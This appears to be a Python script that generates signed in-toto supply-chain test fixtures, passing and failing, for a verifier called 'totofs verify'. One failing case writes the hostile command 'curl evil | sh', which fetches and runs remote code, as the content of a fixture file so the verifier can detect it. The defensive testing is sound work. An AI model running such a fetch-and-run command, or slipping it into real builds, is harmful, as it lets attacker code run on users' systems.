#!/usr/bin/env python3
"""Build the supply-chain fixtures for `totofs verify` with in-toto 3.1.0 (PyPI).

Run with the Python that has in-toto 3.1.0 and securesystemslib 1.6.0 installed:

    python tests/data/chains/generate.py

Every case is one directory with `root.layout`, its links, an optional `work/` directory (the
current directory inspections run in) and `case.json`:

    {"outcome": "pass"|"fail", "kind": <failure kind totofs must report>, "keys": [<key names>],
     "params": {...} (optional), "peer": "cli"|"api"|"none"}

Keys: alice (RSA-PSS), bob (ECDSA P-256) and carl (ed25519) are in-toto's own test pems (copied
into tests/data/interop/pems); owner, dave and erin are ed25519 keys made once with
`cryptography` and kept in keys/ so regenerating changes only what ed25519 does not pin down
(RSA-PSS and ECDSA signatures are randomised).
"""

import copy
import hashlib
import json
import os
import shutil
import subprocess
import sys

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519
from securesystemslib.signer import CryptoSigner, SSlibKey

from in_toto.models.layout import Inspection, Layout, Step
from in_toto.models.link import Link
from in_toto.models.metadata import Envelope, Metablock

HERE = os.path.dirname(os.path.abspath(__file__))
PEMS = os.path.join(HERE, "..", "interop", "pems")
KEYS = os.path.join(HERE, "keys")
FAR = "2099-01-01T00:00:00Z"


def load_private(path):
    with open(path, "rb") as f:
        return serialization.load_pem_private_key(f.read(), None)


def ensure_ed25519(name):
    path = os.path.join(KEYS, name)
    if not os.path.exists(path):
        key = ed25519.Ed25519PrivateKey.generate()
        with open(path, "wb") as f:
            f.write(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                      serialization.NoEncryption()))
    return path


def signer_for(name):
    pems = {"alice": "rsa", "bob": "ecdsa", "carl": "ed25519"}
    if name in pems:
        path = os.path.join(PEMS, f"{pems[name]}_private_unencrypted.pem")
    else:
        path = ensure_ed25519(name)
    priv = load_private(path)
    signer = CryptoSigner(priv)
    pub = os.path.join(KEYS, f"{name}.pub")
    with open(pub, "wb") as f:
        f.write(priv.public_key().public_bytes(serialization.Encoding.PEM,
                                               serialization.PublicFormat.SubjectPublicKeyInfo))
    return signer


def key_dict(signer):
    d = signer.public_key.to_dict()
    d["keyid"] = signer.public_key.keyid
    return d


def sha(content):
    return {"sha256": hashlib.sha256(content.encode()).hexdigest()}


def arts(files):
    return {path: sha(content) for path, content in files.items()}


def make_link(name, materials=None, products=None, command=None):
    return Link(name=name, materials=arts(materials or {}), products=arts(products or {}),
                command=command or [], byproducts={}, environment={})


def write_link(case_dir, link, signer, dsse=False, keyid_prefix=None):
    md = Envelope.from_signable(link) if dsse else Metablock(signed=link)
    sig = md.create_signature(signer)
    name = f"{link.name}.{(keyid_prefix or sig.keyid)[:8]}.link"
    md.dump(os.path.join(case_dir, name))
    return name


def layout(keys, steps, inspect=(), expires=FAR):
    return Layout(keys={k["keyid"]: k for k in keys}, steps=list(steps), inspect=list(inspect), expires=expires)


def step(name, signers, mat=(), prod=(), threshold=1, command=(), pubkeys=None):
    return Step(name=name, expected_materials=[r.split() for r in mat], expected_products=[r.split() for r in prod],
                pubkeys=pubkeys if pubkeys is not None else [s.public_key.keyid for s in signers],
                expected_command=list(command), threshold=threshold)


def inspection(name, run, mat=(), prod=()):
    return Inspection(name=name, run=list(run), expected_materials=[r.split() for r in mat],
                      expected_products=[r.split() for r in prod])


def write_layout(case_dir, lay, signers, dsse=False, name="root.layout"):
    md = Envelope.from_signable(lay) if dsse else Metablock(signed=lay)
    for s in signers:
        md.create_signature(s)
    md.dump(os.path.join(case_dir, name))
    return md


def case(name, outcome, kind=None, keys=("owner",), params=None, peer="cli"):
    d = os.path.join(HERE, name)
    if os.path.exists(d):
        shutil.rmtree(d)
    os.makedirs(d)
    meta = {"outcome": outcome, "kind": kind, "keys": list(keys), "peer": peer}
    if params is not None:
        meta["params"] = params
    with open(os.path.join(d, "case.json"), "w") as f:
        json.dump(meta, f, indent=1, sort_keys=True)
        f.write("\n")
    return d


def write_work(case_dir, files):
    for path, content in files.items():
        p = os.path.join(case_dir, "work", path)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as f:
            f.write(content)


SRC = {"src/main.c": "int main(void) { return 0; }\n", "src/util.c": "int util;\n", "README": "hello\n"}
APP = {"out/app": "\x7fELF app built from main.c\n"}


def basic(owner, clone_signer, build_signer, dsse_layout=False, dsse_links=(False, False), case_dir=None,
          build_materials=None, build_products=None, extra_layout_signers=(), build_command=("make",)):
    """clone CREATEs the sources; build MATCHes them and CREATEs out/app."""
    lay = layout(
        [key_dict(clone_signer), key_dict(build_signer)],
        [
            step("clone", [clone_signer], prod=["CREATE src/*", "CREATE README", "DISALLOW *"],
                 command=["git", "clone", "https://example.org/app.git"]),
            step("build", [build_signer],
                 mat=["MATCH src/* WITH PRODUCTS FROM clone", "MATCH README WITH PRODUCTS FROM clone", "DISALLOW *"],
                 prod=["CREATE out/app", "MATCH src/* WITH PRODUCTS FROM clone", "ALLOW README", "DISALLOW *"],
                 command=["make"]),
        ],
    )
    write_layout(case_dir, lay, [owner, *extra_layout_signers], dsse=dsse_layout)
    write_link(case_dir, make_link("clone", {}, SRC, ["git", "clone", "https://example.org/app.git"]), clone_signer,
               dsse=dsse_links[0])
    mats = SRC if build_materials is None else build_materials
    prods = {**SRC, **APP} if build_products is None else build_products
    write_link(case_dir, make_link("build", mats, prods, list(build_command)), build_signer, dsse=dsse_links[1])
    return lay


def tamper(path, fn):
    with open(path) as f:
        data = json.load(f)
    fn(data)
    with open(path, "w") as f:
        json.dump(data, f, indent=1, sort_keys=True)


def main():
    os.makedirs(KEYS, exist_ok=True)
    for entry in os.listdir(HERE):
        if os.path.isdir(os.path.join(HERE, entry)) and entry != "keys":
            shutil.rmtree(os.path.join(HERE, entry))
    owner, alice, bob, carl = (signer_for(n) for n in ("owner", "alice", "bob", "carl"))
    dave, erin = signer_for("dave"), signer_for("erin")

    # ---- passing chains -------------------------------------------------------------------------
    d = case("pass-basic-ed25519", "pass")
    basic(owner, carl, dave, case_dir=d)

    d = case("pass-dsse", "pass")
    basic(owner, carl, dave, dsse_layout=True, dsse_links=(True, True), case_dir=d)

    d = case("pass-mixed-formats", "pass")
    basic(owner, carl, dave, dsse_layout=True, dsse_links=(False, True), case_dir=d)

    d = case("pass-rsa-ecdsa", "pass", keys=("owner", "alice"))
    basic(owner, alice, bob, case_dir=d, extra_layout_signers=[alice], dsse_links=(False, True))

    d = case("pass-rsa-layout-dsse", "pass", keys=("alice",))
    basic(alice, bob, carl, dsse_layout=True, case_dir=d)

    d = case("pass-ecdsa-layout", "pass", keys=("bob",))
    basic(bob, carl, alice, case_dir=d, dsse_links=(True, False))

    d = case("pass-command-differs", "pass")
    basic(owner, carl, dave, case_dir=d, build_command=("make", "-j8"))

    # threshold 2, identical artifacts from two functionaries (one Metablock, one DSSE)
    d = case("pass-threshold-2", "pass")
    lay = layout([key_dict(carl), key_dict(dave), key_dict(erin)], [
        step("build", [carl, dave, erin], prod=["CREATE out/app", "DISALLOW *"], threshold=2),
    ])
    write_layout(d, lay, [owner])
    write_link(d, make_link("build", {}, APP), carl)
    write_link(d, make_link("build", {}, APP), erin, dsse=True)

    # threshold 1 of two keys: one bad link is skipped, the good one counts
    d = case("pass-one-bad-link-skipped", "pass")
    lay = layout([key_dict(carl), key_dict(dave)], [step("build", [carl, dave], prod=["CREATE out/app", "DISALLOW *"])])
    write_layout(d, lay, [owner])
    write_link(d, make_link("build", {}, APP), carl)
    bad = write_link(d, make_link("build", {}, APP), dave)
    tamper(os.path.join(d, bad), lambda m: m["signed"]["products"].update({"evil": sha("x")}))

    # legacy (in-toto <= 2.x style) keyid in the layout and on the link
    d = case("pass-legacy-keyid", "pass")
    legacy = dict(key_dict(dave))
    legacy_obj = {"keytype": legacy["keytype"], "scheme": legacy["scheme"],
                  "keyid_hash_algorithms": ["sha256", "sha512"], "keyval": legacy["keyval"]}
    from securesystemslib.formats import encode_canonical
    legacy_id = hashlib.sha256(encode_canonical(legacy_obj).encode()).hexdigest()
    legacy["keyid"] = legacy_id
    legacy_signer = CryptoSigner(load_private(os.path.join(KEYS, "dave")),
                                 SSlibKey(legacy_id, legacy["keytype"], legacy["scheme"], legacy["keyval"]))
    lay = layout([legacy], [step("build", [], prod=["CREATE out/app", "DISALLOW *"], pubkeys=[legacy_id])])
    write_layout(d, lay, [owner])
    write_link(d, make_link("build", {}, APP), legacy_signer)

    # MATCH with source and destination prefixes, MODIFY, DELETE, REQUIRE, ALLOW
    d = case("pass-prefixes-and-rules", "pass")
    lay = layout([key_dict(carl), key_dict(dave)], [
        step("dist", [carl], prod=["CREATE pkg/lib/*", "DISALLOW *"]),
        step("install", [dave],
             mat=["MATCH lib/* IN site WITH PRODUCTS IN pkg FROM dist", "DELETE old.cfg", "ALLOW notes/*",
                  "DISALLOW *"],
             prod=["REQUIRE site/lib/a.py", "MODIFY site/lib/a.py", "MATCH lib/b.py IN site WITH PRODUCTS IN pkg FROM dist",
                   "CREATE site/new.txt", "ALLOW notes/*", "DISALLOW *"]),
    ])
    write_layout(d, lay, [owner])
    write_link(d, make_link("dist", {}, {"pkg/lib/a.py": "a = 1\n", "pkg/lib/b.py": "b = 2\n"}), carl)
    write_link(d, make_link("install",
                            {"site/lib/a.py": "a = 1\n", "site/lib/b.py": "b = 2\n", "old.cfg": "x\n",
                             "notes/x.md": "n\n"},
                            {"site/lib/a.py": "a = 1  # patched\n", "site/lib/b.py": "b = 2\n", "site/new.txt": "new\n",
                             "notes/x.md": "n\n"}), dave)

    # a sublayout: step 'sub' is delegated to dave, whose own layout has two steps
    def sublayout(case_dir, fail_inner=False, drop_inner_link=False):
        inner = layout([key_dict(carl), key_dict(erin)], [
            step("fetch", [carl], prod=["CREATE src/*", "DISALLOW *"]),
            step("compile", [erin], mat=["MATCH src/* WITH PRODUCTS FROM fetch", "DISALLOW *"],
                 prod=["CREATE out/app", "ALLOW src/*", "DISALLOW *"]),
        ])
        sub_dir = os.path.join(case_dir, f"sub.{dave.public_key.keyid[:8]}")
        os.makedirs(sub_dir)
        write_layout(case_dir, inner, [dave], name=f"sub.{dave.public_key.keyid[:8]}.link")
        srcs = {"src/main.c": SRC["src/main.c"]}
        write_link(sub_dir, make_link("fetch", {}, srcs), carl)
        compiled_from = {"src/main.c": "tampered\n"} if fail_inner else srcs
        if not drop_inner_link:
            write_link(sub_dir, make_link("compile", compiled_from, {**compiled_from, **APP}), erin, dsse=True)
        outer = layout([key_dict(dave), key_dict(carl)], [
            step("sub", [dave], prod=["CREATE out/app", "CREATE src/*", "DISALLOW *"]),
            step("package", [carl], mat=["MATCH out/app WITH PRODUCTS FROM sub", "DISALLOW *"],
                 prod=["CREATE app.tar.gz", "DISALLOW *"]),
        ])
        write_layout(case_dir, outer, [owner])
        write_link(case_dir, make_link("package", APP, {"app.tar.gz": "tarball\n"}), carl)

    sublayout(case("pass-sublayout", "pass"))

    # inspections run in work/: one copies the app, the second checks the copy
    def inspected(case_dir, work_app, run2=("cmp", "out/app", "copy.bin")):
        lay = layout([key_dict(carl)], [step("build", [carl], prod=["CREATE out/app", "DISALLOW *"])], inspect=[
            inspection("copy", ["cp", "out/app", "copy.bin"],
                       mat=["MATCH out/app WITH PRODUCTS FROM build", "DISALLOW *"],
                       prod=["MATCH out/app WITH PRODUCTS FROM build", "CREATE copy.bin", "DISALLOW *"]),
            inspection("check", list(run2),
                       mat=["MATCH copy.bin WITH PRODUCTS FROM copy", "MATCH out/app WITH PRODUCTS FROM build",
                            "DISALLOW *"]),
        ])
        write_layout(case_dir, lay, [owner])
        write_link(case_dir, make_link("build", {}, APP), carl)
        write_work(case_dir, {"out/app": work_app})

    inspected(case("pass-inspections", "pass"), APP["out/app"])

    # parameters: only the API passes them to in-toto
    d = case("pass-params", "pass", params={"version": "1.2", "dir": "out"}, peer="api")
    lay = layout([key_dict(carl)], [step("build", [carl], prod=["CREATE {dir}/app-{version}.tar", "DISALLOW *"],
                                         command=["make", "VERSION={version}"])])
    write_layout(d, lay, [owner])
    write_link(d, make_link("build", {}, {"out/app-1.2.tar": "tar\n"}, ["make", "VERSION=1.2"]), carl)
    d2 = case("fail-params-not-given", "fail", kind="rule")
    for f in os.listdir(d):
        if f != "case.json":
            shutil.copy(os.path.join(d, f), d2)

    # a chain recorded for real with in-toto-run (the API) in a scratch tree
    d = case("pass-recorded-with-in-toto-run", "pass")
    record_real_chain(d, owner, carl, dave)

    # ---- failing chains -------------------------------------------------------------------------
    d = case("fail-layout-bad-signature", "fail", kind="layout_signature")
    basic(owner, carl, dave, case_dir=d)
    tamper(os.path.join(d, "root.layout"), lambda m: m["signed"].update({"readme": "changed after signing"}))

    d = case("fail-layout-unsigned-by-given-key", "fail", kind="layout_signature", keys=("owner", "alice"))
    basic(owner, carl, dave, case_dir=d)

    d = case("fail-layout-dsse-wrong-key", "fail", kind="layout_signature", keys=("erin",))
    basic(owner, carl, dave, dsse_layout=True, case_dir=d)

    d = case("fail-expired", "fail", kind="layout_expired")
    lay = basic(owner, carl, dave, case_dir=d)
    lay.expires = "2020-01-01T00:00:00Z"
    write_layout(d, lay, [owner])

    d = case("fail-missing-link", "fail", kind="link_not_found")
    basic(owner, carl, dave, case_dir=d)
    os.remove(os.path.join(d, f"build.{dave.public_key.keyid[:8]}.link"))

    d = case("fail-too-few-valid-links", "fail", kind="threshold")
    lay = layout([key_dict(carl), key_dict(dave)], [step("build", [carl, dave], prod=["CREATE out/app"], threshold=2)])
    write_layout(d, lay, [owner])
    write_link(d, make_link("build", {}, APP), carl)
    bad = write_link(d, make_link("build", {}, APP), dave, dsse=True)
    tamper(os.path.join(d, bad), lambda m: m.update({"payload": Envelope.from_signable(
        make_link("build", {}, {"evil": "x"})).to_dict()["payload"]}))

    d = case("fail-unauthorized-key", "fail", kind="threshold")
    lay = layout([key_dict(carl)], [step("build", [carl, erin], prod=["CREATE out/app"], threshold=1,
                                         pubkeys=[erin.public_key.keyid])])
    write_layout(d, lay, [owner])
    write_link(d, make_link("build", {}, APP), erin)

    d = case("fail-link-signed-by-other-key", "fail", kind="threshold")
    lay = layout([key_dict(carl), key_dict(erin)], [step("build", [carl], prod=["CREATE out/app"])])
    write_layout(d, lay, [owner])
    write_link(d, make_link("build", {}, APP), erin, keyid_prefix=carl.public_key.keyid)

    d = case("fail-bad-link-signature", "fail", kind="threshold")
    basic(owner, carl, dave, case_dir=d)
    tamper(os.path.join(d, f"clone.{carl.public_key.keyid[:8]}.link"),
           lambda m: m["signed"]["products"].update({"src/main.c": sha("backdoor\n")}))

    d = case("fail-different-artifacts", "fail", kind="different_artifacts")
    lay = layout([key_dict(carl), key_dict(dave)], [
        step("build", [carl, dave], prod=["CREATE out/app", "DISALLOW *"], threshold=2)])
    write_layout(d, lay, [owner])
    write_link(d, make_link("build", {}, APP), carl)
    write_link(d, make_link("build", {}, {"out/app": "a different binary\n"}), dave)

    d = case("fail-rule-match", "fail", kind="rule")
    basic(owner, carl, dave, case_dir=d,
          build_materials={**SRC, "src/main.c": "int main(void) { backdoor(); }\n"})

    d = case("fail-rule-create", "fail", kind="rule")
    basic(owner, carl, dave, case_dir=d, build_materials={**SRC, **APP})

    d = case("fail-rule-disallow", "fail", kind="rule")
    basic(owner, carl, dave, case_dir=d, build_products={**SRC, **APP, "out/extra.sh": "curl evil | sh\n"})

    def rules_case(name, mat, prod, materials, products):
        d = case(name, "fail", kind="rule")
        lay = layout([key_dict(carl)], [step("edit", [carl], mat=mat, prod=prod)])
        write_layout(d, lay, [owner])
        write_link(d, make_link("edit", materials, products), carl)

    rules_case("fail-rule-delete", [], ["DELETE old.txt", "ALLOW keep.txt", "DISALLOW *"],
               {"old.txt": "o\n", "keep.txt": "k\n"}, {"old.txt": "o\n", "keep.txt": "k\n"})
    rules_case("fail-rule-modify", [], ["MODIFY conf.ini", "DISALLOW *"], {"conf.ini": "a\n"}, {"conf.ini": "a\n"})
    rules_case("fail-rule-require", [], ["REQUIRE SBOM.json", "ALLOW *"], {}, {"app": "a\n"})
    rules_case("fail-rule-allow", [], ["ALLOW docs/*", "DISALLOW *"], {}, {"doc/readme": "r\n"})
    rules_case("fail-rule-star-crosses-slash", [], ["ALLOW *.txt", "DISALLOW src/*"], {}, {"src/deep/x.py": "x\n"})

    d = case("fail-inspection-exit", "fail", kind="inspection")
    inspected(d, APP["out/app"], run2=("sh", "-c", "exit 3"))

    d = case("fail-inspection-rule", "fail", kind="rule")
    inspected(d, "a binary nobody built\n")

    d = case("fail-sublayout-rule", "fail", kind="rule")
    sublayout(d, fail_inner=True)

    d = case("fail-sublayout-missing-link", "fail", kind="link_not_found")
    sublayout(d, drop_inner_link=True)

    d = case("fail-malformed-link", "fail", kind="error")
    basic(owner, carl, dave, case_dir=d)
    with open(os.path.join(d, f"build.{dave.public_key.keyid[:8]}.link"), "w") as f:
        f.write('{"signed": {"_type": "link", "name": "build"')

    d = case("fail-rule-wrong-token-count", "fail", kind="error")
    lay = layout([key_dict(carl)], [step("build", [carl], prod=["CREATE out/app", "DISALLOW *"])])
    md = write_layout(d, lay, [owner])
    raw = md.to_dict()
    raw["signed"]["steps"][0]["expected_products"][0] = ["CREATE", "out/app", "extra"]
    with open(os.path.join(d, "root.layout"), "w") as f:
        json.dump(raw, f, indent=1, sort_keys=True)
    write_link(d, make_link("build", {}, APP), carl)


def record_real_chain(case_dir, owner, clone_signer, build_signer):
    """Run two real commands with in_toto_run in a scratch tree, keep only the links."""
    from in_toto.runlib import in_toto_run
    scratch = os.path.join(case_dir, "scratch")
    os.makedirs(scratch)
    cwd = os.getcwd()
    os.chdir(scratch)
    try:
        link = in_toto_run("clone", [], ["."], ["sh", "-c", "mkdir -p src && printf 'int main;\\n' > src/main.c"],
                           signer=clone_signer, record_streams=True)
        link.dump(os.path.join(case_dir, f"clone.{clone_signer.public_key.keyid[:8]}.link"))
        link = in_toto_run("build", ["."], ["."], ["sh", "-c", "mkdir -p out && cat src/main.c > out/app"],
                           signer=build_signer, use_dsse=True)
        link.dump(os.path.join(case_dir, f"build.{build_signer.public_key.keyid[:8]}.link"))
    finally:
        os.chdir(cwd)
        shutil.rmtree(scratch)
    lay = layout([key_dict(clone_signer), key_dict(build_signer)], [
        step("clone", [clone_signer], prod=["CREATE src/main.c", "DISALLOW *"],
             command=["sh", "-c", "mkdir -p src && printf 'int main;\\n' > src/main.c"]),
        step("build", [build_signer], mat=["MATCH src/* WITH PRODUCTS FROM clone", "DISALLOW *"],
             prod=["MATCH src/* WITH PRODUCTS FROM clone", "CREATE out/app", "DISALLOW *"]),
    ])
    write_layout(case_dir, lay, [owner])


def fnmatch_cases():
    """Random patterns and names over a small alphabet, with Python's own fnmatch verdicts."""
    import fnmatch
    import random
    rng = random.Random(20240229)
    alphabet = "ab-!^]\\[*?/.z"
    cases = []
    for _ in range(4000):
        pat = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 7)))
        if rng.random() < 0.5:
            name = "".join(rng.choice("ab-!^]\\[/.z") for _ in range(rng.randint(0, 6)))
        else:  # a name shaped like the pattern, so that many cases match
            name = "".join("".join(rng.choice("ab/.-]") for _ in range(rng.randint(0, 3))) if c == "*"
                           else rng.choice("ab-]!") if c in "?[" else c for c in pat)
        try:
            verdict = fnmatch.fnmatchcase(name, pat)
        except Exception:  # noqa: BLE001 (a pattern Python's re refuses)
            verdict = None
        cases.append([name, pat, verdict])
    with open(os.path.join(HERE, "fnmatch-cases.json"), "w") as f:
        json.dump(cases, f)
        f.write("\n")


def rule_cases():
    """Random artifact sets and rule lists, with verifylib.verify_item_rules' own verdicts."""
    import random
    from in_toto.exceptions import RuleVerificationError
    from in_toto.verifylib import verify_item_rules
    import logging
    logging.disable(logging.CRITICAL)
    rng = random.Random(7)
    paths = ["x", "src/x", "src/y", "src/sub/z", "lib/x", "site/lib/x", "a\\b", ".hidden"]
    pats = ["*", "src/*", "x", "?", "[sl]*", "*x", "src", "lib/*", "*/x", "[!s]*", "a\\*"]
    prefixes = ["src", "src/", "lib", "site", "site/lib"]

    def arts():
        return {p: {"sha256": rng.choice(["11", "22"])} for p in rng.sample(paths, rng.randint(0, 5))}

    def rule():
        kind = rng.choice(["MATCH"] * 4 + ["CREATE", "DELETE", "MODIFY", "ALLOW", "DISALLOW", "REQUIRE"])
        if kind == "REQUIRE":
            return [kind, rng.choice(paths)]
        if kind != "MATCH":
            return [kind, rng.choice(pats)]
        r = ["MATCH", rng.choice(pats)]
        if rng.random() < 0.3:
            r += ["IN", rng.choice(prefixes)]
        r += ["WITH", rng.choice(["MATERIALS", "PRODUCTS"])]
        if rng.random() < 0.3:
            r += ["IN", rng.choice(prefixes)]
        return r + ["FROM", rng.choice(["a", "b", "b", "nobody"])]

    cases = []
    for _ in range(2000):
        a = {"materials": arts(), "products": arts()}
        b = {"materials": arts(), "products": arts()}
        links = {n: Link(name=n, materials=d["materials"], products=d["products"]) for n, d in (("a", a), ("b", b))}
        kind = rng.choice(["materials", "products"])
        rules = [rule() for _ in range(rng.randint(1, 5))]
        try:
            verify_item_rules("a", kind, rules, links)
            result = "pass"
        except RuleVerificationError:
            result = "fail"
        except Exception:  # noqa: BLE001 (verifylib's own KeyError on odd prefixes)
            result = "error"
        cases.append({"a": a, "b": b, "kind": kind, "rules": rules, "result": result})
    with open(os.path.join(HERE, "rule-cases.json"), "w") as f:
        json.dump(cases, f, separators=(",", ":"))
        f.write("\n")


if __name__ == "__main__":
    if sys.argv[1:] != ["--cases-only"]:
        main()
    fnmatch_cases()
    rule_cases()
